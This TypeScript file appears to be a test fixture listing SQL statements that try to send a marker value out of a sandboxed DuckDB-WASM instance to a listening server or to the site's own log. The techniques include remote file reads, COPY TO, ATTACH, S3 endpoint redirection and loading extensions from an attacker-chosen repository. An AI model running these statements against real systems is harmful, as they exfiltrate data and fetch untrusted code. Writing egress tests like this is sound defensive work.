/**
 * Statements that carry a value out of a bare DuckDB-WASM, or try to. `to` is the listening server, without slash at
 * the end; every address ends in `secret`.
 */
export function outbound(to: string): readonly string[] {
  const host = to.replace(/^https?:\/\//, '');
  return [
    `FROM read_csv('${to}/1.csv?d=secret')`,
    `FROM '${to}/2.csv?d=secret'`,
    `FROM read_text('${to}/3?d=secret')`,
    `FROM read_blob('${to}/4?d=secret')`,
    `FROM read_csv_auto('${to}/5.csv?d=secret')`,
    `FROM sniff_csv('${to}/6.csv?d=secret')`,
    `SET VARIABLE u = (SELECT '${to}/7.csv?d=' || x FROM (SELECT 'secret' AS x)); FROM read_csv(getvariable('u'))`,
    `COPY (SELECT 'secret' AS x) TO '${to}/8.csv?d=secret'`,
    `CREATE TABLE t9 (x VARCHAR); COPY t9 FROM '${to}/9.csv?d=secret'`,
    `ATTACH '${to}/10.db?d=secret' AS d10`,
    `SET custom_extension_repository = '${to}/11-secret'; FROM read_parquet('x.parquet')`,
    `SET custom_extension_repository = '${to}/12-secret'; FROM read_json('x.json')`,
    `LOAD '${to}/13-secret.duckdb_extension.wasm'`,
    `SET custom_extension_repository = '${to}/14-secret'; LOAD icu`,
    `FROM glob('${to}/15.csv?d=secret')`,
    `INSTALL fts FROM '${to}/16-secret'`,
    `SET s3_endpoint = '${host}'; SET s3_use_ssl = false; FROM read_csv('s3://secret/17.csv')`
  ];
}

/** The same to the site's own access log. */
export const ownHost = (to: string): readonly string[] => [
  `FROM read_csv('${to}/own-1.csv?d=secret')`,
  `FROM read_text('${to}/own-2?d=secret')`,
  `FROM read_blob('${to}/own-3?d=secret')`,
  `ATTACH '${to}/own-4.db?d=secret' AS own4`,
  `COPY (SELECT 'secret' AS x) TO '${to}/own-5.csv?d=secret'`
];
